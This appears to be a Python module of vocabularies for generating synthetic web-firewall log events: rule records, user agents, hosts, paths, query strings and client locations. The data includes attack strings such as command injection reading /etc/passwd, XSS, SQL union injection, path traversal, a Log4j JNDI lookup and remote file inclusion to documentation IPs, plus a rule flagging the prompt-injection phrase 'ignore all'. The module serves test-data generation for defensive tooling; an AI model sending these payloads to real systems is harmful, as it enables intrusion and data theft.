"""The words of generated events: rules, clients, servers, places, fingerprints."""

from __future__ import annotations

from typing import NamedTuple


class Rule(NamedTuple):
    """One rule as it appears in an event: one position of the seven parallel lists."""

    rule_id: str
    version: str
    message: str
    tag: str
    data: str
    selector: str
    action: str


RULES = (
    Rule("950002", "4", "System command access", "WEB_ATTACK/CMD", "cmd.exe", "ARGS:q", "alert"),
    Rule("950006", "4", "System command injection", "WEB_ATTACK/CMDI", "; id", "ARGS:q", "alert"),
    Rule("950004", "2", "Cross-site script (XSS)", "WEB_ATTACK/XSS", "<script>", "ARGS:s", "alert"),
    Rule("958051", "3", "Script tag in a value", "WEB_ATTACK/XSS", "script", "ARGS:s", "alert"),
    Rule("973305", "2", "Script event handler", "WEB_ATTACK/XSS", "onload=", "ARGS:t", "alert"),
    Rule("981318", "5", "SQL string ending", "WEB_ATTACK/SQLI", "'' --", "ARGS:id", "alert"),
    Rule("981320", "1", "SQL database name", "WEB_ATTACK/SQLI", "pg_catalog", "ARGS:id", "alert"),
    Rule("959073", "3", "SQL union select", "WEB_ATTACK/SQLI", "union all", "ARGS:id", "alert"),
    Rule("930100", "1", "Path traversal", "WEB_ATTACK/LFI", "/../../", "REQUEST_URI_RAW", "alert"),
    Rule("930120", "2", "Access to OS files", "WEB_ATTACK/LFI", "etc/passwd", "ARGS:f", "alert"),
    Rule("931130", "1", "Remote file inclusion", "WEB_ATTACK/RFI", "http://", "ARGS:u", "alert"),
    Rule("990011", "3", "Tool by its user agent", "AUTOMATION/MISC", "curl", "HEADERS:UA", "alert"),
    Rule("990012", "2", "Web scanner", "AUTOMATION/SCAN", "scanbot", "HEADERS:UA", "monitor"),
    Rule("960015", "1", "No Accept header", "PROTOCOL/MISSING", "", "HEADERS", "alert"),
    Rule("960020", "2", "Pragma without control", "PROTOCOL/HDR", "no-cache", "HEADERS", "alert"),
    Rule("3000014", "1", "PHP file upload", "CMS/FILE_UPLOAD", "a.php", "FILES:f", "alert"),
    Rule("3000057", "2", "Log4j lookup", "WEB_ATTACK/CMDI", "${jndi:ldap", "HEADERS:X", "deny"),
    Rule("3000216", "1", "Template injection", "WEB_ATTACK/SSTI", "{{7*7}}", "ARGS:n", "alert"),
    Rule("3991001", "6", "AI prompt injection", "AIFW/PROMPT", "ignore all", "BODY:p", "monitor"),
    Rule("3903006", "1", "Undeclared bot", "BOT/UNKNOWN", "headless", "CLIENT:IP", "tarpit"),
    Rule("3904003", "2", "Interactive challenge", "BOT/CHALLENGE", "2", "COOKIE", "challenge"),
    Rule("SLOW-POST", "1", "Slow POST seen", "SLOW_POST/RATE", "10", "BODY", "abort"),
    Rule("RATE-3741", "1", "Rate of page views", "RATE/VIEWS", "410", "CLIENT:IP", "delay"),
    Rule("IPBLOCK-EU1", "", "Network list block", "IPGEO/LIST", "ZZ", "CLIENT:IP", "deny"),
    Rule("REP-WEBATCK", "1", "Web attackers", "REPUTATION", "9", "CLIENT:IP", "deny_custom_31"),
    Rule("API-CONSTRAINT", "1", "Body not as declared", "API/BODY", "type", "BODY:$", "deny"),
    Rule("MALWARE-SCAN", "1", "Malware in upload", "MALWARE", "test file", "FILES:f", "deny"),
    Rule("XSS-ANOMALY", "1", "Score exceeded: XSS", "POLICY/XSS_ANOMALY", "Score: 14", "", "deny"),
    Rule("SQL-ANOMALY", "1", "Score exceeded: SQL", "POLICY/SQLI_ANOMALY", "Score: 21", "", "deny"),
    Rule("CMD-ANOMALY", "1", "Score exceeded: CMD", "POLICY/CMD_ANOMALY", "Score: 10", "", "deny"),
)

USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Version/17.5 Mobile/15E148",
    "curl/8.5.0",
    "python-requests/2.32",
    "ExampleApp/4.7.1 (Android 14; en_GB)",
    "scanbot/1.2 (+https://scan.example.com/about)",
)
ACCEPTS = (
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "application/json, text/plain",
    "image/avif,image/webp,*/*;q=0.5",
)
LANGUAGES = ("en-US,en;q=0.5", "de-DE,de;q=0.9,en;q=0.6", "ja", "pt-BR,pt;q=0.8", "fr;q=0.7")
HOSTS = (
    "www.example.com",
    "shop.example.com",
    "api.example.com",
    "login.example.com",
    "static.example.com",
)
SERVERS = ("EdgeServer", "nginx", "Apache/2.4.59", "envoy")
CONTENT_TYPES = ("text/html; charset=utf-8", "application/json", "text/html", "image/png")
PATHS = (
    "/",
    "/login",
    "/api/v2/orders",
    "/search",
    "/cart/checkout",
    "/wp-admin/setup.php",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/caf%C3%A9/menu",
    "/a+b/c%20d",
    "/.env",
    "/media/img/%E2%82%AC.png",
)
QUERIES = (
    "",
    "",
    "",
    "q=cat%20/etc/passwd;id",
    "s=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "id=1%27%20UNION%20ALL%20SELECT%20null--",
    "page=2&sort=price+asc",
    "q=a+b%2Bc&lang=de",
    "u=http://203.0.113.80/x.txt?",
    "x=100%&y=%zz",
    "jndi=$%7Bjndi:ldap://198.51.100.7/a%7D",
)
METHODS = ("GET", "GET", "GET", "POST", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH")
STATUSES = ("200", "200", "403", "403", "404", "301", "429", "500", "0")
PROTOCOLS = ("HTTP/1.1", "HTTP/1.1", "h2", "h2", "HTTP/2", "h3", "HTTP/1.0")
TLS_VERSIONS = ("tls1.3", "tls1.3", "TLSv1.2", "tls1.2")
PLACES = (
    ("EU", "DE", "HE", "FRANKFURT", "64496"),
    ("NA", "US", "VA", "ASHBURN", "64497"),
    ("AS", "JP", "13", "TOKYO", "64498 64499"),
    ("SA", "BR", "SP", "SAOPAULO", "64500"),
    ("AF", "ZA", "WC", "CAPETOWN", "64501"),
    ("OC", "AU", "NSW", "SYDNEY", "64502"),
    ("EU", "GB", "EN", "LONDON", "64503 64504 64505"),
    ("AS", "IN", "MH", "MUMBAI", "64506"),
)
RISKS = ("udfp:7d3e55aa10/H|unp:74256/H", "udfp:1a2b3c/M", "", "uasn:64500/L|ugp:BR/M")
TRUSTS = ("ugp:US", "udp:0f1e2d|ugp:DE", "", "utod:morning")
GENERALS = ("duc_1h:10|duc_1d:30", "duc_1h:1|ipc_1d:4|uap:Firefox 128", "")
USERS = ("ada", "grace.h", "linus", "margaret", "user+tag")
FINGERPRINTS = ("t13d1516h2_8daaf6152771_b186095e22b6", "t12d190800_d83cc789557e_7af1ed941c26")
